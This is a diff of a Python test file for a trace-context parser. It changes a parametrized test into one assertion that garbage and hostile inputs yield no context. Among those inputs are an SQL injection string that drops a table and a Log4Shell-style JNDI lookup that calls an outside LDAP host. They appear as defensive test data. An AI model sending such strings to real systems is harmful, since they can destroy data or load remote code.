@@ -1,7 +1,5 @@
 """The trace contexts that other systems send, whatever they send."""
 
-from typing import Any
-
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -31,9 +29,8 @@ def test_of_a_later_version_the_four_parts_that_are_known_are_read():
     assert str(context) == GIVEN
 
 
-@pytest.mark.parametrize(
-    "hostile",
-    [
+def test_what_is_no_context_is_ignored():
+    cases = [
         None,
         7,
         b"00",
@@ -57,10 +54,8 @@ def test_of_a_later_version_the_four_parts_that_are_known_are_read():
         "'; DROP TABLE job; --",
         "${jndi:ldap://203.0.113.9/a}",
         "ona@example.org",
-    ],
-)
-def test_what_is_no_context_is_ignored(hostile: Any):
-    assert context_of(hostile) is None
+    ]
+    assert [(hostile, got) for hostile in cases if (got := context_of(hostile)) is not None] == []
 
 
 @given(st.text() | st.from_regex(r"[0-9a-f]{2}-[0-9a-f]{32}-[0-9a-f]{16}-[0-9a-f]{2}", fullmatch=True))
